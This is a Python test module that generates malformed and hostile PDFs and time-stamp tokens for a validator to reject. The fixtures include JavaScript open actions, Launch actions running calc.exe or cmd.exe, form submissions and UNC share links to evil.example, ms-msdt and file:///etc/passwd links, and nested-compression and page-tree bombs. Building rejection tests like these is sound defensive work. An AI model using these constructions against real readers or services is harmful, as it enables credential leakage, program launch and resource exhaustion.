"""PDFs and time stamps that must be refused, by what was put into them."""

import io
import zlib
from base64 import a85encode
from collections.abc import Iterator
from functools import partial
from typing import Any

import pikepdf
import pypdf
from pypdf.actions import JavaScript
from reportlab.lib.pdfencrypt import StandardEncryption

from tests.support.files import packing, payloads, pdfs, tokens
from tests.support.files.benign_documents import canvas, signed
from tests.support.files.case import Case, Make
from tests.support.files.drawing import der, oid
from tests.support.files.packing import lzw_of_zeros
from tests.support.files.pdfs import document, flate, objects, packed, stream, updated, written
from tests.support.files.photos import photo, xmp

ALERT = b"<< /S /JavaScript /JS (app.alert\\('hello'\\)) >>"


def hostile_documents() -> Iterator[Case]:
    for family, code, cases in (
        ("truncated pdf", "document-truncated", _truncated()),
        ("corrupt pdf", "document-corrupt", _corrupt()),
        ("pdf with javascript", "document-holds-javascript", _javascript()),
        ("pdf that acts", "document-holds-action", _actions()),
        ("pdf with files", "document-holds-files", _attachments()),
        ("pdf with xfa", "document-holds-xfa", _forms()),
        ("pdf with media", "document-holds-media", _media()),
        ("encrypted pdf", "document-encrypted", _encrypted()),
        ("pdf that unpacks to too much", "document-decodes-too-large", _bombs()),
        ("pdf of too many pages", "document-too-many-pages", _long()),
        ("pdf with a pixel flood", "document-too-many-pixels", _floods()),
        ("file in or behind a pdf", "document-holds-another-file", _strangers()),
        ("script in a pdf", "document-holds-script", _scripts()),
    ):
        for name, make in cases:
            yield Case(family, name, "certificate.pdf", make, code)
    for name, make, code in _stamps():
        yield Case("time stamp", name, "work.tsa", make, code)


def _truncated() -> Iterator[tuple[str, Make]]:
    for share in (0.2, 0.5, 0.8, 0.95):
        for name, make in {
            "plain": document,
            "signed": signed,
            "printed": partial(canvas, lambda s: s.drawString(9, 9, "x")),
        }.items():
            yield f"{name} at {share:.0%}", lambda make=make, share=share: (pdf := make())[: int(len(pdf) * share)]
    yield "update that breaks off", lambda: updated(document(), {4: stream(b"q Q" * 100)}, 5)[:-60]


def _corrupt() -> Iterator[tuple[str, Make]]:
    yield "only a head and an end", lambda: b"%PDF-1.7\n%%EOF\n"
    yield "no catalog", lambda: written([b"<< /Nothing 1 >>", *objects()[1:]])
    yield "no pages", lambda: document(pages=b"<< /Type /Pages /Kids [] /Count 0 >>")
    yield "pages that are none", lambda: document(pages=b"(pages)")
    yield "noise", lambda: b"%PDF-1.7\n" + bytes((at * 73) % 256 for at in range(4000)) + b"\n%%EOF\n"
    many = b"<< /Type /Pages /Kids [" + b"3 0 R " * 200_000 + b"] /Count 1 >>"
    yield "one page 200000 times in a tree", lambda: document(pages=many)
    yield (
        "a tree of pages that turns in on itself",
        lambda: document(pages=b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>"),
    )
    yield "a tree of pages whose branches multiply", _multiplying
    yield "objects that are none", lambda: written([b"<< << << [ [ (", b">>", b"]"])


def _multiplying() -> bytes:
    """Eight levels, each ten times the next: a hundred million pages in two kilobytes."""
    node = b"<< /Type /Pages /Parent 2 0 R /Kids [%s] /Count 10 >>"
    levels = [node % (b"%d 0 R " % (at + 6) * 10) for at in range(8)]
    return document([*levels, node % (b"3 0 R " * 10)], pages=b"<< /Type /Pages /Kids [5 0 R] /Count 1 >>")


def _packed_away(thing: bytes) -> bytes:
    """Inside an object stream, where a look at the bytes finds nothing."""
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>"
    return packed({3: pdfs.PAGE, 4: stream(b"BT ET")}, held={1: catalog, 2: objects()[1], 5: thing})


def _javascript() -> Iterator[tuple[str, Make]]:
    yield "when opened", lambda: document(catalog=b"/OpenAction " + ALERT)
    yield "when opened, elsewhere", lambda: document([ALERT], catalog=b"/OpenAction 5 0 R")
    yield "when closed", lambda: document(catalog=b"/AA << /WC " + ALERT + b" >>")
    yield "when the page is shown", lambda: document(page=b"/AA << /O " + ALERT + b" >>")
    yield "by name", lambda: document(catalog=b"/Names << /JavaScript << /Names [(a) " + ALERT + b"] >> >>")
    yield (
        "at a click",
        lambda: document(page=_button(ALERT)),
    )
    field = b"<< /FT /Tx /T (a) /AA << /K " + ALERT + b" >> >>"
    yield "at a key in a field", lambda: document([field], catalog=b"/AcroForm << /Fields [5 0 R] >>")
    yield (
        "in a stream",
        lambda: document([stream(b"app.alert(1)"), b"<< /S /JavaScript /JS 5 0 R >>"], catalog=b"/OpenAction 6 0 R"),
    )
    yield "with names in disguise", lambda: document(catalog=b"/OpenAction << /#53 /J#61vaScript /J#53 (x) >>")
    yield "packed away", partial(_packed_away, ALERT)
    yield (
        "second in a row of actions",
        lambda: document(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next " + ALERT + b" >>"),
    )
    yield "in a version that was replaced", lambda: updated(document([ALERT]), {5: b"null"}, 6)
    yield "in an update", lambda: updated(document(), {1: objects(catalog=b"/OpenAction " + ALERT)[0]}, 5)
    yield "behind a link", lambda: document(page=_link(b"javascript:alert(1)"))
    yield "behind a link, in disguise", lambda: document(page=_link(b" java\\nscr\\tipt:alert\\(1\\)"))
    yield "under a signature", lambda: updated(signed(), {1: objects(catalog=b"/OpenAction " + ALERT)[0]}, 7)
    yield "as a library adds it", _with_script
    yield "in a rendition", lambda: document([b"<< /S /Rendition /JS (x) /OP 0 >>"])


def _with_script() -> bytes:
    writer = pypdf.PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_open_action(JavaScript("app.alert(1)"))
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _link(target: bytes) -> bytes:
    return _button(b"<< /S /URI /URI (" + target + b") >>")


def _button(action: bytes) -> bytes:
    return b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A " + action + b" >>]"


def _actions() -> Iterator[tuple[str, Make]]:
    launch = b"<< /S /Launch /F (calc.exe) >>"
    windows = b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"
    submit = b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>"
    actions = {
        "launch": launch,
        "launch on windows": windows,
        "launch in disguise": b"<< /S /L#61unch /F (calc.exe) >>",
        "submit": submit,
        "import": b"<< /S /ImportData /F (data.fdf) >>",
        "another file": b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\a.pdf) /D [0 /Fit] >>",
        "thread of another file": b"<< /S /Thread /F (a.pdf) /D 0 >>",
    }
    for name, action in actions.items():
        yield f"{name}, when opened", lambda action=action: document(catalog=b"/OpenAction " + action)
        yield f"{name}, packed away", lambda action=action: _packed_away(action)
    yield (
        "launch at a click",
        lambda: document(page=_button(launch)),
    )
    yield (
        "submit by a button",
        lambda: document([b"<< /FT /Btn /T (a) /A " + submit + b" >>"], catalog=b"/AcroForm << /Fields [5 0 R] >>"),
    )
    yield "link to a file", lambda: document(page=_link(b"file:///etc/passwd"))
    yield "link to a share", lambda: document(page=_link(b"\\\\\\\\evil.example\\\\share"))
    yield "link to a search", lambda: document(page=_link(b"search-ms:query=a&crumb=location:evil.example"))
    yield "link to a program", lambda: document(page=_link(b"ms-msdt:/id PCWDiagnostic"))
    program = b"/Type /XObject /Subtype /PS"
    yield "program for printers", lambda: document([stream(b"(/etc/passwd) (r) file", program)])
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Ref << /F (\\\\\\\\evil.example\\\\a.pdf) /Page 0 >>"
    yield "page of another file", lambda: document([stream(b"", form)])
    yield "contents of another file", lambda: document(contents=stream(b"", b"/F (\\\\\\\\evil.example\\\\a)"))


def _attachments() -> Iterator[tuple[str, Make]]:
    file = stream(payloads.PROGRAM, b"/Type /EmbeddedFile")
    spec = b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>"
    yield "by name", lambda: document([file, spec], catalog=b"/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>")
    yield "compressed", lambda: document([flate(payloads.PROGRAM, b"/Type /EmbeddedFile"), spec])
    yield "without a type", lambda: document([stream(b"x"), spec], catalog=b"/AF [6 0 R]")
    note = b"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 6 0 R >>]"
    yield "pinned to the page", lambda: document([file, spec], page=note)
    yield "a way into one", lambda: document(catalog=b"/OpenAction << /S /GoToE /T << /R /C /N (a) >> >>")
    yield "as a library adds it", _with_attachment
    yield "as another library adds it", _with_pikepdf_attachment
    yield (
        "an invoice with data",
        lambda: document([stream(b"<xml/>", b"/Type /EmbeddedFile"), spec], catalog=b"/AF [6 0 R]"),
    )


def _with_attachment() -> bytes:
    writer = pypdf.PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_attachment("a.exe", payloads.PROGRAM)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _with_pikepdf_attachment() -> bytes:
    return _saved(lambda pdf: pdf.attachments.__setitem__("a.zip", payloads.archive()))


def _saved(change: Any = None, **options: Any) -> bytes:
    with pikepdf.open(io.BytesIO(document())) as pdf:
        if change is not None:
            change(pdf)
        out = io.BytesIO()
        pdf.save(out, **options)
    return out.getvalue()


def _forms() -> Iterator[tuple[str, Make]]:
    parts = b"/AcroForm << /Fields [] /XFA [(template) 5 0 R] >>"
    yield "in parts", lambda: document([stream(b"<template/>")], catalog=parts)
    yield "whole", lambda: document([flate(b"<xdp:xdp/>")], catalog=b"/AcroForm << /Fields [] /XFA 5 0 R >>")
    yield "packed away", lambda: _packed_away(b"<< /Fields [] /XFA (x) >>")
    yield "in disguise", lambda: document(catalog=b"/AcroForm << /Fields [] /X#46A (x) >>")


def _media() -> Iterator[tuple[str, Make]]:
    for subtype in (b"RichMedia", b"3D", b"Movie", b"Sound", b"Screen"):
        note = b"/Annots [<< /Type /Annot /Subtype /" + subtype + b" /Rect [0 0 9 9] >>]"
        yield f"annotation {subtype.decode()}", lambda note=note: document(page=note)
    for action in (b"Sound", b"Movie", b"Rendition", b"RichMediaExecute", b"GoTo3DView"):
        yield (
            f"action {action.decode()}",
            lambda action=action: document(catalog=b"/OpenAction << /S /" + action + b" >>"),
        )
    yield "packed away", lambda: _packed_away(b"<< /Type /Annot /Subtype /RichMedia >>")


def _encrypted() -> Iterator[tuple[str, Make]]:
    for revision in (2, 3, 4, 6):
        for who, passwords in {"user": ("owner", "user"), "owner only": ("owner", "")}.items():
            yield (
                f"revision {revision}, {who}",
                lambda r=revision, p=passwords: _saved(
                    encryption=pikepdf.Encryption(owner=p[0], user=p[1], R=r, aes=r >= 4, metadata=r >= 4)
                ),
            )
    for strength in (40, 128):
        lock = partial(StandardEncryption, "user", "owner", strength=strength)
        yield f"printed, {strength} bits", lambda lock=lock: canvas(lambda s: s.drawString(9, 9, "x"), encrypt=lock())
    for algorithm in ("RC4-128", "AES-256"):
        yield f"assembled, {algorithm}", partial(_locked, algorithm)
    rights = b"/Encrypt << /Filter /Adobe.PubSec /V 4 /SubFilter /adbe.pkcs7.s5 >>"
    yield "for certificates", lambda: document(trailer=rights)
    yield "by a filter of its own", lambda: document(trailer=b"/Encrypt << /Filter /Own /V 9 >>")


def _locked(algorithm: str) -> bytes:
    writer = pypdf.PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt("user", "owner", algorithm=algorithm)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _bombs() -> Iterator[tuple[str, Make]]:
    zeros = partial(bytes, 300_000_000)
    yield "one stream", lambda: document(contents=flate(zeros()))
    yield "packed twice", lambda: document(contents=flate(zlib.compress(zeros(), 9)))
    yield "packed three times", lambda: document(contents=flate(zlib.compress(zlib.compress(zeros(), 9), 9)))
    yield "many streams", lambda: document([flate(bytes(60_000_000))] * 5)
    yield (
        "in printable characters",
        lambda: document(contents=stream(_printable(zeros()), b"/Filter [/ASCII85Decode /FlateDecode]")),
    )
    yield (
        "in hexadecimal",
        lambda: document(contents=stream(_digits(zeros()), b"/Filter [/ASCIIHexDecode /FlateDecode]")),
    )
    yield "without naming the filter", lambda: document(contents=stream(zlib.compress(zeros(), 9), b"/Filter /Fl"))
    yield (
        "object stream",
        lambda: document([flate(_numbers(), b"/Type /ObjStm /N 1 /First 4")]),
    )
    yield "object stream in disguise", lambda: document([flate(_numbers(), b"/Type /Obj#53tm /N 1 /First 4")])
    yield (
        "object stream in LZW",
        lambda: document([stream(b"\x80\x0b", b"/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode")]),
    )
    yield from _older_bombs()
    yield "table in run lengths", lambda: document([stream(b"\x81\x00", b"/Type /XRef /Filter /RunLengthDecode")])


def _older_bombs() -> Iterator[tuple[str, Make]]:
    """Filters that are known by their names alone: what they packed looks like anything."""
    zeros = partial(lzw_of_zeros, 40)  # of 295 million
    runs = b"\x81\x00" * 2_100_000 + b"\x80"  # of 268.8 million
    lzw = b"/Filter /LZWDecode"
    yield "LZW", lambda: document(contents=stream(zeros(), lzw))
    yield "LZW by its short name", lambda: document(contents=stream(zeros(), b"/Filter [/LZW]"))
    yield "LZW in disguise", lambda: document(contents=stream(zeros(), b"/Filter /L#5aWDecode"))
    yield "LZW, named elsewhere", lambda: document([b"/LZWDecode"], contents=stream(zeros(), b"/Filter 5 0 R"))
    yield "LZW, shared out", lambda: document([stream(lzw_of_zeros(10), lzw)] * 4)
    yield "LZW in a picture", lambda: document([stream(zeros(), b"/Type /XObject /Subtype /Image " + lzw)])
    yield "run lengths", lambda: document(contents=stream(runs, b"/Filter /RunLengthDecode"))
    yield (
        "LZW in printable characters",
        lambda: document(contents=stream(a85encode(zeros()) + b"~>", b"/Filter [/ASCII85Decode /LZWDecode]")),
    )
    yield (
        "run lengths in LZW",
        lambda: document(contents=stream(packing.lzw(runs[:400_000] * 11), b"/Filter [/LZWDecode /RunLengthDecode]")),
    )
    yield (
        "zlib in hexadecimal in zlib",
        lambda: document(
            contents=flate(zlib.compress(bytes(300_000_000), 9).hex().encode() + b">").replace(
                b"/Filter /FlateDecode", b"/Filter [/FlateDecode /ASCIIHexDecode /FlateDecode]"
            )
        ),
    )
    yield "packed five times", lambda: document(contents=stream(b"x", b"/Filter [" + b"/ASCII85Decode " * 5 + b"]"))
    far = b"/Far (" + b"x" * 9000 + b") "
    inner = b"/Type /ObjStm /N 1 /First 4 "
    yield "object stream behind a long dictionary", lambda: document([flate(_numbers(), inner + far)])
    yield "object stream, filter elsewhere", lambda: document([stream(b"x", inner + b"/Filter 6 0 R"), b"/LZWDecode"])


def _numbers() -> bytes:
    return b"9 0 [" + b"0 " * 20_000_000 + b"]"


def _printable(data: bytes) -> bytes:
    return a85encode(zlib.compress(data, 9)) + b"~>"


def _digits(data: bytes) -> bytes:
    return zlib.compress(data, 9).hex().encode() + b">"


def _long() -> Iterator[tuple[str, Make]]:
    for number in (501, 3000):
        kids = b"".join(b"%d 0 R " % (at + 5) for at in range(number))
        pages = b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % number
        yield f"{number} pages", lambda number=number, pages=pages: document([pdfs.PAGE] * number, pages=pages)


def _floods() -> Iterator[tuple[str, Make]]:
    for width, height in ((9000, 9000), (100_000, 100_000), (2_000_000_000, 2)):
        size = b"/Type /XObject /Subtype /Image /ColorSpace /DeviceGray /BitsPerComponent 8 /Width %d /Height %d"
        entries = size % (width, height)
        yield f"{width} × {height}", lambda entries=entries: document([flate(bytes(1000), entries)])


def _strangers() -> Iterator[tuple[str, Make]]:
    for name, other in payloads.BINARIES.items():
        yield f"{name} behind", lambda other=other: document() + other
    yield "picture behind", lambda: document() + photo()
    yield "zip behind and a new end", lambda: document() + payloads.archive() + b"\n%%EOF\n"
    yield "zip in a stream", lambda: document([stream(payloads.archive())])
    yield "zip in an update", lambda: updated(document(), {4: stream(payloads.archive())}, 5)
    yield "second pdf behind", lambda: document() + document()
    yield "program in a stream", lambda: document([stream(payloads.ELF)])


def _scripts() -> Iterator[tuple[str, Make]]:
    for name, script in payloads.SCRIPTS.items():
        yield f"{name} behind", lambda script=script: document() + script
    for name in ("html", "script", "php"):
        script = payloads.SCRIPTS[name]
        yield f"{name} in a comment at the head", lambda s=script: written(objects(), head=b"%PDF-1.7\n%" + s + b"\n")
        yield f"{name} in a stream", lambda s=script: document([stream(s)])
    info = b"/Info << /Title (" + payloads.SVG + b") >>"
    yield "title", lambda: document(trailer=info)
    wide = b"/Info << /Title <feff" + payloads.SCRIPT.decode().encode("utf-16-be").hex().encode() + b"> >>"
    yield "title in UTF-16", lambda: document(trailer=wide)
    packet = xmp("&lt;script&gt;alert(1)&lt;/script&gt;")
    yield "XMP", lambda: document([flate(packet, b"/Type /Metadata /Subtype /XML")], catalog=b"/Metadata 5 0 R")


def _stamps() -> Iterator[tuple[str, Make, str]]:
    good = partial(tokens.token, tokens.stamp_of(b"the work"))
    for share in (0.3, 0.6, 0.95):
        yield (
            f"cut at {share:.0%}",
            lambda share=share: (whole := good())[: int(len(whole) * share)],
            "document-truncated",
        )
    yield "not signed", lambda: tokens.token(tokens.stamp_of(b"x"), signed=False), "document-corrupt"
    yield "of something else", lambda: tokens.token(der(0x30, oid("1.2.3"))), "document-corrupt"
    named = lambda: der(0x30, der(0x04, tokens.TST_INFO), der(0x04, bytes(99)))  # noqa: E731
    yield "only the name of one", named, "document-corrupt"
    yield "not in DER", lambda: b"\x30\x80" + good()[4:], "document-corrupt"
    yield "answer without a stamp", lambda: der(0x30, der(0x30, der(2, b"\x02"), tokens.TST_INFO)), "document-corrupt"
    yield "zip behind", lambda: good() + payloads.archive(), "document-holds-another-file"
    yield "pdf behind", lambda: good() + document(), "document-holds-another-file"
    yield "script behind", lambda: good() + payloads.SCRIPT, "document-holds-script"
